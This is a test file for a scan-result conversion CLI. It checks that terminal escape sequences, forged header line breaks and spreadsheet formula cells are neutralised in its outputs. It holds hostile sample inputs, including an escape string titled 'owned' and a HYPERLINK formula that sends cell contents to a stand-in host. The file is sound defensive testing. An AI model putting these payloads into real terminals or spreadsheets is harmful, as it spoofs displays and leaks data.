/**
 * Issue 33, terminal safety: a hostile banner's ESC, BEL, CSI, C1 and line breaks never reach
 * a terminal raw through the outputs meant for people (`--to human`, `url`, `hostport`,
 * `nmap-grep`, `masscan-console`, messages); CSV cells are neutralised for spreadsheets
 * (control characters, formula-leading cells), unless `--csv-raw`.
 */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { safeCell } from '../../src/convert/output/index.js'
import { emptyEvent } from '../../src/schema/index.js'
import { printable } from '../../src/validate/index.js'
import { runCli } from '../support/streams.js'

/** Characters a terminal acts on (as printable() escapes them). */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
const ESC = '\u001b'
const hostile = `${ESC}]0;owned\u0007${ESC}[2J\u009b31m\u202e`

/** An event whose every text member holds terminal escapes. */
const event = JSON.stringify({
  ...emptyEvent(),
  event_type: 'service',
  event_source: `src${hostile}`,
  ip: '192.0.2.1',
  host: `evil${hostile}.example.com`,
  port: '80',
  transport: ['tcp', 'http'],
  protocol: `http${hostile}`,
  http: { ...emptyEvent().http, status: 200, title: `title${hostile}`, url: `/x${hostile}` },
  summary: `HTTP/1.1 200 OK\nServer: x${hostile}\r\nX-Forged: line\rl9kit: all good`,
  service: { ...emptyEvent().service, software: { ...emptyEvent().service.software, name: `nginx${hostile}`, version: '1.0' } },
  tags: [`tag${hostile}`],
  time: '2024-01-01T00:00:00Z',
})

const convert = (to: string, extra: string[] = []) => runCli(['convert', '--from', 'l9', '--to', to, ...extra], `${event}\n`)

describe('outputs meant for a terminal', () => {
  for (const to of ['human', 'url', 'hostport', 'nmap-grep', 'masscan-console']) {
    it(`--to ${to} writes no control character of the input`, async () => {
      const r = await convert(to)
      expect(r.code).toBe(0)
      // Only the format's own line breaks (and nmap-grep's tab) remain.
      expect(r.stdout.replace(/[\n\t]/g, '')).not.toMatch(UNSAFE)
      expect(r.stdout).not.toContain(ESC)
    })
  }

  it('--to human keeps the summary on its own lines, each escaped', async () => {
    const r = await convert('human')
    expect(r.stdout).toContain('\\u001b]0;owned\\u0007')
    expect(r.stdout).toContain('X-Forged: line\\rl9kit: all good')
  })

  it('messages about a record escape what they quote', async () => {
    const r = await runCli(['convert', '--from', 'sx'], `192.0.2.1 notaport ${hostile}\n`)
    expect(r.code).toBe(1)
    expect(r.stderr).not.toMatch(UNSAFE)
    const v = await runCli(['validate'], `${JSON.stringify({ [`member${hostile}`]: 1 })}\n`)
    expect(v.stdout.replace(/\n/g, '')).not.toMatch(UNSAFE)
    expect(v.stdout).toContain('member\\u001b]0;owned\\u0007')
  })
})

describe('CSV', () => {
  it('escapes control characters and makes formula-leading cells text; --csv-raw writes them as they are', async () => {
    const formula = JSON.stringify({ ...JSON.parse(event), host: '=HYPERLINK("http://x.example/?"&A1)', http: { ...emptyEvent().http, title: `@SUM(1)${hostile}` } })
    const r = await runCli(['convert', '--from', 'l9', '--to', 'csv', '--fields', 'host,http.title,summary,geoip.location.lon'], `${formula}\n`)
    const row = r.stdout.split('\r\n')[1]!
    expect(row.startsWith('"\'=HYPERLINK(')).toBe(true)
    expect(row).toContain("'@SUM(1)\\u001b")
    expect(r.stdout).not.toContain(ESC)
    const raw = await runCli(['convert', '--from', 'l9', '--to', 'csv', '--csv-raw', '--fields', 'host'], `${formula}\n`)
    expect(raw.stdout.split('\r\n')[1]).toBe('"=HYPERLINK(""http://x.example/?""&A1)"')
    expect((await runCli(['convert', '--from', 'l9', '--to', 'url', '--csv-raw'], `${event}\n`)).code).toBe(2)
  })

  it('property: a safe cell starts with no formula character unless it is a number, and holds no control character but line breaks and tabs', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', 'a', '1', '.', ESC, '\u0007', '\u009b') }), (text) => {
        const cell = safeCell(text)
        expect(cell.replace(/[\r\n\t]/g, '')).not.toMatch(UNSAFE)
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/)
      }),
      { numRuns: 300 },
    )
  })
})

describe('printable', () => {
  it('escapes what a terminal acts on as JSON writes it, and leaves other text alone', () => {
    expect(printable(`a${ESC}[31mb\u0007\n\u009b\u202e\\ é`)).toBe('a\\u001b[31mb\\u0007\\n\\u009b\\u202e\\ é')
    expect(printable('line\nbreak', '\n')).toBe('line\nbreak')
  })
})
